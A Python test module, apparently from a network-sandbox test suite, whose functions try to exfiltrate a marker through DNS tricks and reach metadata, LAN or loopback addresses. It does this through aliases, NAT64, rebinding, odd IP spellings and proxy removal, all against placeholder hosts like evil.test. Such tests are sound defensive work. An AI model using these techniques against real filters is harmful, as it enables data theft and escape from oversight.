"""Attacks of network.py on names: what is looked up, and where it leads."""
import os
import socket
import struct

from network_base import LAN, META, ONE, TWO, attack, attacks, get, named, tcp, udp


def question(labels, kind=1):
    return (b"\x12\x34\1\0\0\1\0\0\0\0\0\0" +
            b"".join(bytes([len(x)]) + x for x in labels) + b"\0" +
            struct.pack(">HH", kind, 1))


def ask(labels, kind=1, server=("127.0.0.1", 53)):
    s = udp()
    s.sendto(question(labels, kind), server)
    answer = s.recv(1000)
    return "NXDOMAIN" if answer[3] & 15 == 3 else f"code {answer[3] & 15}"


# -- names ---------------------------------------------------------------------

@attack
def nul_in_a_name(mark):
    return ask([mark + b"\0", b"good", b"test"])


@attack
def nul_in_one_label(mark):
    return ask([mark + b".evil.test\0.good", b"test"])


@attack
def suffix(mark):
    return ask([b"good", b"test", mark, b"evil", b"test"])


@attack
def prefix(mark):
    return ask([mark + b"wild", b"test"])


@attack
def labels(mark):
    return ask([mark, b"evil", b"test"])


@attack
def labels_of_an_allowed_name(mark):
    return ask([mark, b"good", b"test"])


@attack
def labels_in_other_records(mark):
    return [ask([mark, b"evil", b"test"], kind) for kind in (16, 28, 10, 255)]


@attack
def labels_over_tcp(mark):
    query = question([mark, b"evil", b"test"])
    s = tcp(TWO, 53)
    s.sendall(struct.pack(">H", len(query)) + query)
    return s.recv(100)


@attack
def labels_to_another_server(mark):
    return ask([mark, b"evil", b"test"], server=(TWO, 53))


@attack
def bits_in_the_letters_of_a_name(mark):
    """Small and capital ones, four bits a question; the world puts them together."""
    for digit in mark.hex():
        bits = int(digit, 16)
        ask([bytes(c - 32 if bits & 8 >> i else c for i, c in enumerate(b"good")), b"test"])
    return "asked"


@attack
def records_of_allowed_names(mark):
    """Of kinds that carry what they like: TXT, NULL, HTTPS with its ECH keys, SVCB."""
    return [ask([mark, b"wild", b"test"], kind) for kind in (16, 10, 65, 64, 255, 99)]


@attack
def labels_behind_a_question(mark):
    """Bytes that follow, and options of EDNS."""
    query = bytearray(question([b"good", b"test"]))
    query[11] = 1
    option = struct.pack(">HH", 65001, len(mark)) + mark
    query += b"\0" + struct.pack(">HHIH", 41, 1232, 0, len(option)) + option
    s = udp()
    s.sendto(bytes(query) + mark, ("127.0.0.1", 53))
    return s.recv(100)


@attack
def name_server_of_no_dns(mark):
    """Port 53 of another host, but no question."""
    s = tcp(ONE, 53)
    s.sendall(mark)
    return s.recv(100)


# -- where names lead ----------------------------------------------------------

def leads(name, address):
    def one(mark):
        errors = []
        for connect in (lambda: named(name, 80), lambda: tcp(address, 80)):
            try:
                return get(connect(), name, "/" + mark.decode())
            except OSError as error:
                errors.append(str(error))
        return errors
    return one


attacks["leads-to-metadata"] = leads("meta.bad.test", META)
attacks["leads-to-the-lan"] = leads("lan.bad.test", LAN)
attacks["leads-to-loopback"] = leads("lo.bad.test", "127.0.0.1")
# By other names on the way, of which no rule is.
attacks["leads-to-metadata-by-an-alias"] = leads("alias-meta.bad.test", META)
attacks["leads-to-loopback-by-aliases"] = leads("alias-lo.bad.test", "127.0.0.1")


def leads_by_six(name, address):
    def one(mark):
        errors = []
        for host in (name, address):
            try:
                found = socket.getaddrinfo(host, 80, socket.AF_INET6, socket.SOCK_STREAM)
                s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
                s.settimeout(5)
                s.connect(found[0][4])
                return get(s, name, "/" + mark.decode())
            except OSError as error:
                errors.append(str(error))
        return errors
    return one


attacks["leads-to-metadata-by-nat64"] = leads_by_six("nat64.bad.test", "64:ff9b::a9fe:a9fe")
attacks["leads-to-loopback-by-nat64"] = leads_by_six("nat64-lo.bad.test", "64:ff9b::7f00:1")
attacks["leads-to-metadata-by-local-nat64"] = leads_by_six("nat64-own.bad.test", "64:ff9b:1::a9fe:a9fe")
attacks["leads-to-a-link"] = leads_by_six("link.bad.test", "fe80::1%lo")


@attack
def another_host_behind_an_alias(mark):
    """A name may be another's, as those of most services are; what that one is called no rule says."""
    get(named("alias.bad.test", 80), "alias.bad.test", "/aliased")
    return get(named("alias.bad.test", 80), "cdn.evil.test", "/" + mark.decode())


@attack
def rebinding(mark):
    """The first answer leads outside, those that follow inside."""
    for _ in range(3):
        try:
            answer = get(named("rebind.bad.test", 80), "rebind.bad.test", "/x")
        except OSError as error:
            answer = error
    s = tcp(LAN, 80)
    return answer, get(s, "rebind.bad.test", "/" + mark.decode())


@attack
def metadata_in_other_spellings(mark):
    for host in ("2852039166", "0xa9fea9fe", "0251.0376.0251.0376"):
        try:
            s = tcp(socket.getaddrinfo(host, 80, socket.AF_INET)[0][4][0], 80)
            return get(s, META, "/" + mark.decode())
        except OSError as error:
            said = error
    return said


@attack
def v4_mapped(mark):
    s = tcp("::ffff:" + TWO, 80, socket.AF_INET6)
    return get(s, TWO, "/" + mark.decode())


@attack
def by_address_without_a_proxy(mark):
    for name in list(os.environ):
        if name.lower().endswith("_proxy"):
            del os.environ[name]
    return get(tcp(TWO, 80), "evil.test", "/" + mark.decode())
